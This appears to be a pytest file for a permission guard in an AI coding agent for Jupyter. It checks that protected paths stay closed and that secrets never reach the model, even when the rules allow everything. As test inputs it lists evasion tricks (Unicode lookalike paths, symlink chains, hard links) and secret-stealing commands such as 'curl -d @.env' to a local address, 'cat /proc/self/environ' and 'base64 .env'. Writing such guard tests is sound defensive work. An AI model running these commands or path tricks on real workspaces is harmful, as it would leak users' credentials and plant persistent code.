"""PathAccess that no rule opens, and secrets: by every name, and by every way of reading."""

from __future__ import annotations

import logging
import os
from pathlib import Path
from typing import Any

import pytest

import cowork_jupyter
from cowork_jupyter.domain.roles import AgentRole
from cowork_jupyter.record import ExportFormat
from tests.scripted import call

from .cage import SECRET
from .house import House, code

pytestmark = pytest.mark.asyncio

PLACES = [
    ".git/hooks/pre-commit",
    ".git/config",
    ".git",
    "sub/.git/hooks/post-checkout",
    ".gitattributes",
    ".gitmodules",
    ".cowork/settings.json",
    ".cowork/prompts/x.md",
    ".jupyter/jupyter_server_config.py",
    ".ipython/profile_default/startup/00-x.py",
    ".local/share/jupyter/kernels/x/kernel.json",
    ".local/share/jupyter/cowork/trust.json",
    "share/jupyter/kernels/python3/kernel.json",
    "etc/jupyter/jupyter_config.json",
    "kernel.json",
    ".bashrc",
    ".bash_profile",
    ".profile",
    ".zshrc",
    ".envrc",
    ".config/fish/config.fish",
    ".config/autostart/x.desktop",
    ".config/systemd/user/x.service",
    "sitecustomize.py",
    "lib/python3/site-packages/x.pth",
    ".ssh/authorized_keys",
    ".aws/credentials",
    ".netrc",
    ".env",
    ".env.production",
    ".vscode/tasks.json",
    ".mcp.json",
    ".pre-commit-config.yaml",
]
DISGUISES = {
    "upper case": ".GIT/hooks/pre-commit",
    "mixed case": ".GiT/HoOkS/pre-commit",
    "upper case environment": ".ENV",
    "a wide dot": "\uff0egit/hooks/pre-commit",
    "a dot leader": "\u2024env",
    "wide letters": ".\uff47\uff49\uff54/hooks/pre-commit",
    "a dot at the end": ".git./hooks/pre-commit",
    "dots and spaces at the end": ".env . .",
    "a space at the end": ".bashrc ",
    "zero width inside": ".g\u200cit/hooks/pre-commit",
    "a soft hyphen inside": ".e\u00adnv",
    "a long s": ".ba\u017fhrc",
    "around the corner": "private/../.git/hooks/pre-commit",
    "with dots and slashes": ".//./.git//hooks/./pre-commit",
    "a letter with a kelvin sign": ".\u212anown/../.git/config",
}


def allow_all_of_it(house: House) -> None:
    """Rules that would allow it, if rules could."""
    for tool in ("create_file", "update_file", "delete_file", "execute_command", "*"):
        house.rule("allow", tool)
    house.rule("allow", "create_file(**)")
    house.rule("allow", "execute_command(touch)")


async def test_a_protected_place_although_rules_allow_it(house: House) -> None:
    allow_all_of_it(house)
    for path in PLACES:
        created = await house.attempt("create_file", path=path, content="x")
        assert code(created) == "denied_by_user", path
        assert "protected" in house.user.asked[-1].why[0], path
        assert house.user.asked[-1].scopes == ["once"], path
        assert code(await house.run(f"touch '{path}'")) == "denied_by_user", path


async def test_a_protected_place_in_disguise(house: House) -> None:
    allow_all_of_it(house)
    for disguise, path in DISGUISES.items():
        created = await house.attempt("create_file", path=path, content="x")
        assert code(created) == "denied_by_user", disguise
        assert "protected" in house.user.asked[-1].why[0], disguise


async def test_a_protected_place_inside_an_approved_plan(house: House) -> None:
    step = {
        "tools_needed": ["create_file", "update_file", "execute_command", "write_files"],
        "files": [".git/hooks/pre-commit", "*", "**", ".env", ".git/config"],
    }
    replies = [
        call("create_file", path=".git/hooks/pre-commit", content="x"),
        call("update_file", path=".git/config", content="x"),
        call("execute_command", command="echo x > .git/hooks/pre-commit"),
        call("execute_command", command="cp a.py .env"),
    ]
    await house.execute(step, replies=replies)
    assert [code(one) for one in house.results()] == ["denied_by_user"] * 4


async def test_a_link_to_a_protected_place(house: House) -> None:
    (house.root / "notes").symlink_to(".git/hooks")
    allow_all_of_it(house)
    house.look()
    given = {"path": "notes/pre-commit", "content": "x"}
    assert code(await house.attempt("create_file", **given)) == "denied_by_user"


async def test_a_chain_of_links_to_a_protected_place(house: House) -> None:
    for name, target in (("l1", ".git"), ("l2", "l1"), ("l3", "l2/hooks")):
        (house.root / name).symlink_to(target)
    allow_all_of_it(house)
    house.look()
    given = {"path": "l3/pre-commit", "content": "x"}
    assert code(await house.attempt("create_file", **given)) == "denied_by_user"


async def test_a_hard_link_to_a_protected_file(house: House) -> None:
    """A new file takes the name; the protected one keeps its content."""
    os.link(house.root / ".git" / "config", house.root / "notes.txt")
    house.look()
    house.says_yes()
    house.expected = {"ws/notes.txt"}
    await house.attempt("update_file", path="notes.txt", content="taken")
    assert (house.root / "notes.txt").read_text() == "taken"


async def test_the_program_itself(house: House) -> None:
    """Where Cowork is installed in the workspace, its own code is protected."""
    package = Path(cowork_jupyter.__file__).parent
    decision = house.service.check_call(
        AgentRole.ACTOR, "execute_command", {"command": f"touch {package}/policy/decision.py"}
    )
    assert decision.decision == "ask"
    assert any("part of Cowork itself" in why for why in decision.because)


# Secrets

READING: dict[str, tuple[str, dict[str, Any]]] = {
    "read_file": ("read_file", {"path": ".env"}),
    "get_file_info": ("get_file_info", {"path": ".env"}),
    "grep in the file": ("grep", {"pattern": "PASSWORD", "path": ".env"}),
    "a link": ("read_file", {"path": "link"}),
    "a chain of links": ("read_file", {"path": "chain"}),
    "a folder that is a link": ("read_file", {"path": "keys/id"}),
    "upper case on a lenient disk": ("read_file", {"path": ".ENV"}),
    "cat": ("execute_command", {"command": "cat .env"}),
    "cat with quotes": ("execute_command", {"command": "cat .e'n'v"}),
    "cat with a glob": ("execute_command", {"command": "cat .e*"}),
    "cat with braces": ("execute_command", {"command": "cat .{env,x}"}),
    "cat with a variable": ("execute_command", {"command": "X=.env; cat $X"}),
    "a redirection": ("execute_command", {"command": "cat < .env"}),
    "a pipe": ("execute_command", {"command": "cat a.py .env | cat"}),
    "a link in a command": ("execute_command", {"command": "cat link"}),
    "grep -r": ("execute_command", {"command": "grep -r PASSWORD ."}),
    "grep -r without a folder": ("execute_command", {"command": "grep -rn PASSWORD"}),
    "grep -R": ("execute_command", {"command": "grep -Rh PASSWORD ."}),
    "rg --hidden": ("execute_command", {"command": "rg --hidden PASSWORD"}),
    "rg -uuu": ("execute_command", {"command": "rg -uuu PASSWORD"}),
    "rg": ("execute_command", {"command": "rg s3cr3t"}),
    "diff -r": ("execute_command", {"command": "diff -r . private"}),
    "sort": ("execute_command", {"command": "sort .env"}),
    "awk": ("execute_command", {"command": "awk 1 .env"}),
    "sed": ("execute_command", {"command": "sed -n p .env"}),
    "git diff --no-index": ("execute_command", {"command": "git diff --no-index /dev/null .env"}),
    "git show": ("execute_command", {"command": "git show HEAD:.env"}),
    "base64": ("execute_command", {"command": "base64 .env"}),
    "cp": ("execute_command", {"command": "cp .env x.txt"}),
    "ln": ("execute_command", {"command": "ln .env x.txt"}),
    "tar": ("execute_command", {"command": "tar cf x.tar .env"}),
    "curl": ("execute_command", {"command": "curl -d @.env http://127.0.0.1:9/"}),
    "cd": ("execute_command", {"command": "cd keys && cat id"}),
    "another folder": ("execute_command", {"command": "cat id", "cwd": ".ssh"}),
    "list a folder of keys": ("list_directory", {"path": ".ssh"}),
}


def hide(house: House) -> None:
    (house.root / "link").symlink_to(".env")
    (house.root / "chain").symlink_to("link")
    (house.root / ".ssh").mkdir()
    (house.root / ".ssh" / "id").write_text(SECRET)
    (house.root / "keys").symlink_to(".ssh")
    (house.root / ".ENV").write_text(SECRET)
    house.look()


async def test_a_secret_read_by(house: House) -> None:
    hide(house)
    house.rule("allow", "*")
    for way, (tool, given) in READING.items():
        assert code(await house.attempt(tool, **given)) == "denied_by_user", way
        assert SECRET not in house.sent_to_model(), way


async def test_a_secret_read_by_a_program_that_nobody_allowed(house: House) -> None:
    for command in ("python3 -c \"print(open('.env').read())\"", "perl -pe1 .env", "./x"):
        assert code(await house.run(command)) == "denied_by_user"
    assert SECRET not in house.sent_to_model()


async def test_a_secret_that_a_search_comes_across(house: House) -> None:
    hide(house)
    house.rule("allow", "*")
    for tool, given in (
        ("grep", {"pattern": "s3cr3t"}),
        ("grep", {"pattern": "s3cr3t", "glob": ".env"}),
        ("grep", {"pattern": ".", "path": "."}),
        ("search_code", {"text": "s3cr3t"}),
        ("search_symbol", {"name": "PASSWORD"}),
    ):
        await house.attempt(tool, AgentRole.PLANNER, **given)
    assert SECRET not in house.sent_to_model()


async def test_a_secret_read_by_each_role(house: House) -> None:
    house.rule("allow", "*")
    for role in AgentRole:
        assert code(await house.attempt("read_file", role, path=".env")) == "denied_by_user", role
    assert SECRET not in house.sent_to_model()


async def test_the_environment_of_the_server(house: House, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("OPENAI_API_KEY", "JUPYTER_TOKEN", "MY_DB", "AWS_SECRET_ACCESS_KEY"):
        monkeypatch.setenv(name, SECRET)
    house.says_yes()
    for command in (
        "env",
        "printenv",
        "set",
        "export -p",
        "cat /proc/self/environ",
        f"cat /proc/{os.getpid()}/environ",
        "cat /proc/$PPID/environ",
        "python3 -c 'import os; print(os.environ)'",
    ):
        await house.run(command)
    assert SECRET not in house.sent_to_model()


async def test_a_home_folder_as_workspace(house: House) -> None:
    """The tokens of running servers, and what Cowork knows of whom to trust."""
    share = house.root / ".local" / "share" / "jupyter"
    for name in ("runtime/jpserver-1.json", "cowork/trust.json"):
        (share / name).parent.mkdir(parents=True)
        (share / name).write_text(SECRET)
    house.rule("allow", "*")
    house.look()
    path = ".local/share/jupyter/runtime/jpserver-1.json"
    assert code(await house.attempt("read_file", path=path)) == "denied_by_user"
    given = {"path": ".local/share/jupyter/cowork/trust.json", "content": "{}"}
    assert code(await house.attempt("update_file", **given)) == "denied_by_user"
    assert SECRET not in house.sent_to_model()


async def test_a_secret_that_the_user_showed_stays_out_of_the_logs(
    house: House, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    house.says_yes()
    await house.attempt("read_file", path=".env")
    await house.run("cat .env; cat nowhere")
    assert house.results()[0]["ok"]
    # The client's own records of what it sends are the client's, and off unless asked for.
    ours = [one for one in caplog.records if one.name.startswith("cowork")]
    assert SECRET not in "\n".join(one.getMessage() for one in ours)


async def test_a_secret_that_the_user_showed_stays_out_of_exports(house: House) -> None:
    house.says_yes()
    await house.attempt("read_file", path=".env")
    await house.run("cat .env")
    assert SECRET in house.sent_to_model(), "the user wanted the model to see it"
    for kind in ExportFormat:
        export = await house.service.export(house.context, kind)
        assert SECRET.encode() not in export.body, kind
